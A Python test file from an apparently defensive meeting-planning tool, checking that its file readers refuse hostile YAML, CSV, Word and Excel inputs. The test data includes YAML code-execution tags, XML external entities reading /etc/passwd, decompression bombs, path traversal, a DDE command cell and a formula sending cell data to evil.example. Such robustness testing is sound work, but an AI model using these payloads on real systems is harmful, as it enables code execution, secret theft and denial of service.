"""A13: files of a programme, of participants and of a concept note that are meant to stop or fill the machine."""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from contextlib import suppress
from itertools import pairwise, product
from pathlib import Path
from random import Random

import pytest

from nameplate.planning.bad_file import BadFile
from nameplate.planning.pasted_participants import participants_of
from nameplate.planning.sheet import as_excel
from tests.planning.test_bad_files import delegations_error, programme_error


@pytest.mark.parametrize("name", ["pipe", "/dev/zero", "/dev/null"])
def test_what_is_no_file_is_an_error(tmp_path: Path, name: str) -> None:
    os.mkfifo(tmp_path / "pipe")
    for error in (programme_error(tmp_path / name), delegations_error(tmp_path / name)):
        assert error == f"{tmp_path / name}: must be a file, and no device or pipe"


HUGE = {
    "items": "sittings:\n- items:\n" + "  - {id: a, kind: break, minutes: 5}\n" * 20_000,
    "scalar": "title: " + "x" * 50_000_000,
    "rows": "code,category,name\n" + "FR,member_state,France\n" * 1_000_000,
}


@pytest.mark.parametrize("what", HUGE)
def test_a_huge_file_is_an_error_before_it_is_read(tmp_path: Path, what: str) -> None:
    file = tmp_path / "huge"
    file.write_text(HUGE[what], encoding="utf-8")
    assert programme_error(file) == f"{file}: is too large; at most 200 KB are read"
    assert delegations_error(file).startswith(f"{file}: is too large; at most 1000 KB are read") or what == "items"


def test_a_control_character_is_an_error(tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_text("code,category,name\nX1,ngo,Beep\x07\n", encoding="utf-8")
    assert delegations_error(file) == f"{file}, line 2: “name” has a control character"
    file.write_text(
        'sittings: [{id: "Beep \\x07", start: 10:00, end: 11:00, items: []}]\ndate: 2015-03-03\n', encoding="utf-8"
    )
    assert "“id” must be a text" in programme_error(file)


def nested(opening: str, closing: str, depth: int) -> str:
    """Brackets inside brackets."""
    return opening * depth + closing * depth


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n" for before, name in pairwise("abcdefghijk")
)
HOSTILE: dict[str, bytes | str] = {
    "billion laughs in YAML": LAUGHS + "sittings: *k\ntitle: *k\n",
    "billion laughs by merging": "a: &a {x: 1}\n" + "".join(f"b{n}: &b{n}\n  <<: [*a, *a, *a]\n" for n in range(800)),
    "a list that holds itself": "sittings: &a [*a]\ntitle: &b {x: *b}\n",
    "100,000 open brackets": "sittings: " + "[" * 99_000,
    "deep lists": "sittings: " + nested("[", "]", 5_000),
    "deep maps": "sittings: " + nested("{a: ", "}", 5_000),
    "a word in 300 brackets, often": "sittings: " + "[" * 300 + "a," * 49_000,
    "a word in some brackets, often": "sittings: " + "[" * 9 + "a," * 9_000 + "]" * 9,
    "deep blocks": "".join(" " * n + "a:\n" for n in range(400)),
    "a Python object": "title: !!python/object/apply:os.system ['touch owned']\n",
    "a Python name": "title: !!python/name:os.system\nsittings: !!python/module:os\n",
    "a tag of its own": "title: !<tag:evil.example,2002:x> y\n",
    "binary": "title: !!binary " + "A" * 9_000 + "\n",
    "a number without end": "minutes: " + "9" * 90_000 + "\n",
    "infinities": "title: .inf\ndate: .nan\nsittings: -.inf\n",
    "dates that do not exist": "date: 2015-02-30\nsittings: 2015-99-99T99:99:99Z\n",
    "a date far away": "title: x\ndate: 99999-01-01\n",
    "bases": "title: 0x" + "f" * 50_000 + "\ndate: 0o777\nsittings: 1:2:3:4:5:6:7\n",
    "the same key 5,000 times": "title: x\n" * 5_000,
    "3,000 entries": "sittings:\n" + "- {id: s}\n" * 3_000,
    "anchors": "".join(f"k{n}: &n{n} x\n" for n in range(2_000)),
    "many documents": "--- {}\n" * 3_000,
    "a directive": "%YAML 9.9\n%TAG ! tag:evil.example,2000:\n---\ntitle: !x y\n",
    "lone surrogates": 'title: "\\ud800"\ndate: "\\udfff"\n',
    "control characters": 'title: "\\0\\a\\e\\x85\\u2028"\n',
    "a NUL": b"title: x\x00y\n",
    "UTF-16": "title: x\n".encode("utf-16"),
    "UTF-7": b"title: +ADw-script+AD4-\n",
    "one byte": b"\xff",
    "nothing": b"",
    "white space": " \n\t\n" * 5_000,
    "a zip archive": b"PK\x03\x04" + bytes(3_000),
    "an encrypted archive": b"PK\x03\x04\x14\x00\x01\x00" + os.urandom(3_000),
    "a gzip bomb": gzip.compress(bytes(50_000_000)),
    "a PDF": b"%PDF-1.7\n" + os.urandom(2_000),
    "billion laughs in XML": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "a foreign entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "one line of 90 KB": "x" * 90_000,
    "quotation marks": '"' * 90_001,
    "a cell of 90 KB": 'code,category,name\nX1,ngo,"' + "x" * 90_000 + '"\n',
    "10,000 columns": "x" + ",x" * 10_000 + "\nX1" + "," * 10_000 + "\n",
    "no end of a cell": 'code,category,name\nX1,ngo,"A\n' + "X2,ngo,B\n" * 5_000,
    "thousands of the same code": "code,category,name\n" + "X1,ngo,A\n" * 9_000,
    "separators of lines": "code,category,name\rX1,ngo,A\x0bB\u2028C\x85D\n",
}
READ_ALL = """
import json, resource, sys, time
from pathlib import Path
from nameplate.planning.bad_file import BadFile, read_text
from nameplate.planning.delegations_file import read_delegations
from nameplate.planning.programme_data import load
from nameplate.planning.programme_file import read_programme
from nameplate.planning.yaml_node import LARGEST_BYTES
resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))
def load_file(file):
    load(read_text(file, LARGEST_BYTES), str(file))
    raise BadFile(str(file), None, "is plain data")  # load does not know the keys
readers = (lambda file: read_programme(file, "CODE2345", ()), lambda file: read_delegations(file, {}), load_file)
for file in sorted(Path(sys.argv[1]).iterdir()):
    for read in readers:
        began = time.process_time()
        try:
            said = "read: " + repr(read(file))[:80]
        except BadFile as error:
            said = str(error)
        print(json.dumps([file.name, said, time.process_time() - began]))
"""
"""Runs in another process with 512 MB of memory. An exception other than `BadFile` ends it."""


def test_each_hostile_file_is_refused_with_a_short_sentence(tmp_path: Path) -> None:
    for name, content in HOSTILE.items():
        (tmp_path / name).write_bytes(content.encode() if isinstance(content, str) else content)
    (tmp_path / "a link to a device").symlink_to("/dev/zero")
    (tmp_path / "a link to itself").symlink_to(tmp_path / "a link to itself")
    (tmp_path / "a link to a secret").symlink_to("/etc/passwd")
    (tmp_path / "a folder").mkdir()
    ran = subprocess.run([sys.executable, "-c", READ_ALL, str(tmp_path)], capture_output=True, text=True, timeout=100)
    assert ran.returncode == 0, ran.stderr[-3000:]
    told = [json.loads(line) for line in ran.stdout.splitlines()]
    assert len(told) == 3 * (len(HOSTILE) + 4)
    for name, message, seconds in told:
        assert seconds < 10, name
        assert not message.startswith("read: ") and len(message) < 600, (name, message)
        assert len(message.splitlines()) == 1 and message.isprintable(), (name, message)
        assert "root:" not in message


FRAGMENTS = (
    *(
        "1 ",
        "Mr. ",
        "Mr. A",
        "Ms. A B, C; ",
        "“",
        "(",
        "()",
        "(a)",
        " - ",
        "a.m. ",
        "10:00-",
        "10:00 - 11:00 ",
        "of ",
        "by ",
    ),
    *(
        "on behalf of ",
        "3 March ",
        "3 and 4 March ",
        "Monday, ",
        "12 minutes ",
        "\t",
        "| ",
        "[bookmark: ",
        " ",
        "\u200b",
    ),
    *(
        "H.E. Mr. ",
        "session ",
        "two slots of 60 minutes each (45 minutes for a",
        "presentations by a",
        "x",
        ", ",
        " on ",
        "A, ",
    ),
    *(
        "concept note ",
        '"',
        "Permanent Representative of A",
        "to be confirmed ",
        "video ",
        "floor ",
        "inter-active ",
        "Q & ",
    ),
    *("a\n", "Ms. A\n", "10:00 Ms. A, “\n", "Panel “\n", "Session 1 10:00-11:00\n", "Day 1 – 4 May 2020\n", "10:00\n"),
    *(
        "Chair\n",
        "Panellists:\n- A B\n",
        "a,\n",
        '"a, on "\n',
        "Format:\npresentations of 10 minutes. ",
        "Morning session\n",
    ),
    *(
        "will the chair, ",
        "Ms. A will chair ",
        "panellists will be Ms. A and ",
        "discussion of 9 minutes ",
        "Session I: A. Chair: ",
        "Ms. A - theme: ",
        "3 to 6 p.m.\n",
    ),
)
BEFORE = ("Programme\n", "Format\n")


def zipped(method: int, piece: bytes, times: int) -> bytes:
    """A Word file whose main part is this piece, many times."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as made:
        made.writestr("_rels/.rels", "<a/>")
        with made.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
            for _ in range(times):
                part.write(piece)
    return file.getvalue()


def hostile_notes() -> dict[str, bytes]:
    """Word files that are meant to stop or fill the machine. Making them takes many seconds."""
    return {
        "a bomb of spaces": zipped(zipfile.ZIP_DEFLATED, b" " * 1_000_000, 600),
        "a bomb of spaces in bzip2": zipped(zipfile.ZIP_BZIP2, b" " * 1_000_000, 600),
        "a bomb of spaces in LZMA": zipped(zipfile.ZIP_LZMA, b" " * 1_000_000, 300),
        "a bomb of paragraphs": zipped(zipfile.ZIP_DEFLATED, b"<w:p/>" * 100_000, 300),
        "a bomb of tables": zipped(zipfile.ZIP_DEFLATED, b"<w:tbl><w:tr><w:tc>" * 10_000, 10),
        "one attribute": zipped(zipfile.ZIP_DEFLATED, b'<w:p w:a="' + b"x" * 15_000_000, 1),
        "100,000 parts": b"PK\x03\x04" + b"PK\x01\x02" + bytes(4_000_000),
    }


READ_NOTES = """
import json, resource, sys, time
from pathlib import Path
from nameplate.planning.bad_file import BadFile
from nameplate.planning.concept_note import propose, text_of, to_yaml
resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))
for file in sorted(Path(sys.argv[1]).iterdir()):
    began = time.process_time()
    try:
        said = "read: " + to_yaml(propose(text_of(file.read_bytes(), file.name)))[:20]
    except BadFile as error:
        said = str(error)
    print(json.dumps([file.name, said, time.process_time() - began]))
"""
"""Runs in another process with 512 MB of memory. An exception other than `BadFile` ends it."""


def read_notes(folder: Path) -> list[tuple[str, str, float]]:
    """The name, the begin of the answer and the seconds of each concept note in a folder."""
    ran = subprocess.run([sys.executable, "-c", READ_NOTES, str(folder)], capture_output=True, text=True, timeout=300)
    assert ran.returncode == 0, ran.stderr[-3000:]
    return [json.loads(line) for line in ran.stdout.splitlines()]


def test_each_hostile_word_file_is_refused_with_a_short_sentence(tmp_path: Path) -> None:
    notes = hostile_notes()
    for name, content in notes.items():
        (tmp_path / name).write_bytes(content)
    told = read_notes(tmp_path)
    assert len(told) == len(notes)
    for name, message, seconds in told:
        assert seconds < 10 and not message.startswith("read: "), name
        assert len(message) < 200 and message.isprintable(), name


def test_no_line_of_a_concept_note_takes_long(tmp_path: Path) -> None:
    for number, (before, fragment) in enumerate(product(BEFORE, FRAGMENTS)):
        text = before + fragment * (90_000 // len(fragment.encode()))
        (tmp_path / f"{number}").write_text("\n".join(text.split("\n")[:1_990]), encoding="utf-8")
    told = read_notes(tmp_path)
    assert len(told) == len(BEFORE) * len(FRAGMENTS)
    assert [(name, message) for name, message, seconds in told if seconds > 5 or not message.startswith("read: ")] == []


def sheet(cells: str = "", parts: dict[str, str] | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An Excel file with these rows in its sheet, and with these parts changed or added."""
    made = {name: content.decode() for name, content in PLAIN_SHEET.items()}
    made["xl/worksheets/sheet1.xml"] = re.sub(
        "<sheetData.*</sheetData>|<sheetData ?/>",
        lambda _: f"<sheetData>{cells}</sheetData>",
        made["xl/worksheets/sheet1.xml"],
        flags=re.DOTALL,
    )
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, text in (made | (parts or {})).items():
            archive.writestr(name, text)
    return file.getvalue()


def parts_of(content: bytes) -> dict[str, bytes]:
    """The parts of an Office file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


PLAIN_SHEET = parts_of(as_excel([["begin"]], "Sheet"))
STRINGS = "xl/sharedStrings.xml"
CELL = '<c t="inlineStr"><is><t>x</t></is></c>'
LAUGHING = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


def hostile_sheets() -> dict[str, bytes]:
    """Excel files that are meant to stop or fill the machine. Making them takes some seconds."""
    return {
        "a bomb of spaces": sheet(" " * 11_000_000),
        "a bomb of rows": sheet("<row/>" * 1_800_000),
        "a bomb of columns": sheet("<row>" + CELL * 200_000 + "</row>"),
        "a bomb of strings": sheet(parts={STRINGS: "<sst>" + "<si><t>x</t></si>" * 600_000 + "</sst>"}),
        "a bomb of styles": sheet(parts={"xl/styles.xml": "<styleSheet>" + "<xf/>" * 2_200_000 + "</styleSheet>"}),
        "deep elements": sheet("<row>" * 5_000),
        "a cell at the end of the sheet": sheet(
            '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        ),
        "a row without end": sheet('<row r="99999999999999999999">' + CELL + "</row>"),
        "a cell without a place": sheet('<row r="x"><c r="??"><v>1</v></c></row>'),
        "a string that is not there": sheet('<row r="1"><c r="A1" t="s"><v>9999</v></c></row>'),
        "a date without end": sheet('<row r="1"><c r="A1" t="d"><v>9999999-99-99</v></c></row>'),
        "a number without end": sheet('<row r="1"><c r="A1"><v>' + "9" * 100_000 + "</v></c></row>"),
        "laughs": sheet(parts={STRINGS: LAUGHING + "<sst><si><t>&b;</t></si></sst>"}),
        "a foreign entity": sheet(parts={STRINGS: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst/>'}),
        "other XML": sheet(parts={"xl/workbook.xml": "<a/>"}),
        "no XML": sheet(parts={"xl/workbook.xml": "PK"}),
        "a relation to nowhere": sheet(parts={"xl/_rels/workbook.xml.rels": "<Relationships/>"}),
        "a relation to the outside": sheet(
            parts={
                "xl/_rels/workbook.xml.rels": PLAIN_SHEET["xl/_rels/workbook.xml.rels"]
                .decode()
                .replace("worksheets/sheet1.xml", "../../../etc/passwd")
            }
        ),
        "hundreds of parts": sheet(parts={f"xl/{number}": "" for number in range(600)}),
        "macros": sheet(parts={"xl/vbaProject.bin": "x"}),
        "bzip2": sheet(" " * 1_000_000, method=zipfile.ZIP_BZIP2),
        "a formula": sheet('<row r="1"><c r="A1"><f>HYPERLINK("http://evil.example/"&amp;A2)</f></c></row>'),
        "a command": sheet('<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>begin</v></c></row>'),
        "an old Excel file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000),
        "no archive": b"x" * 3_000,
        "half an archive": sheet()[:900],
        "nothing": b"",
        "a Word file": zipped(zipfile.ZIP_DEFLATED, b"", 1),
        "random bytes": b"PK\x03\x04" + os.urandom(3_000),
    }


READ_SHEETS = """
import json, resource, sys, time, warnings
from pathlib import Path
from nameplate.planning.bad_file import BadFile
from nameplate.planning.delegations_file import read_delegations_text
from nameplate.planning.pasted_participants import participants_of
from nameplate.planning.programme_table import read_programme_table
resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))
warnings.simplefilter("ignore")
readers = (
    lambda content, name: read_programme_table(content, name, {}),
    lambda content, name: read_delegations_text(participants_of(content, name), name, {}),
)
for file in sorted(Path(sys.argv[1]).iterdir()):
    for read in readers:
        began = time.process_time()
        try:
            said = "read: " + repr(read(file.read_bytes(), file.name))[:80]
        except BadFile as error:
            said = str(error)
        print(json.dumps([file.name, said, time.process_time() - began]))
"""
"""Runs in another process with 512 MB of memory. An exception other than `BadFile` ends it."""


def test_each_hostile_sheet_is_refused_with_a_short_sentence(tmp_path: Path) -> None:
    sheets = hostile_sheets()
    for name, content in sheets.items():
        (tmp_path / f"{name}.xlsx").write_bytes(content)
    for name, sent in HOSTILE.items():
        (tmp_path / f"{name}.csv").write_bytes(sent.encode() if isinstance(sent, str) else sent)
    program = [sys.executable, "-c", READ_SHEETS, str(tmp_path)]
    ran = subprocess.run(program, capture_output=True, text=True, timeout=300)
    assert ran.returncode == 0, ran.stderr[-3000:]
    told = [json.loads(line) for line in ran.stdout.splitlines()]
    assert len(told) == 2 * (len(sheets) + len(HOSTILE))
    for name, message, seconds in told:
        assert seconds < 10, name
        assert not message.startswith("read: ") or name == "separators of lines.csv", (name, message)
        assert len(message) < 600 and len(message.splitlines()) == 1 and message.isprintable(), (name, message)
        assert "root:" not in message


@pytest.mark.parametrize("place", range(3))
def test_a_damaged_sheet_is_read_or_refused(place: int) -> None:
    content = as_excel([["code", "category", "name"], ["x-1", "ngo", "An organization"]], "Sheet")
    random = Random(place)
    for _ in range(40):
        damaged = bytearray(content)
        for _ in range(random.randint(1, 6)):
            damaged[random.randrange(len(damaged))] = random.randrange(256)
        with suppress(BadFile):
            participants_of(bytes(damaged), "p.xlsx")
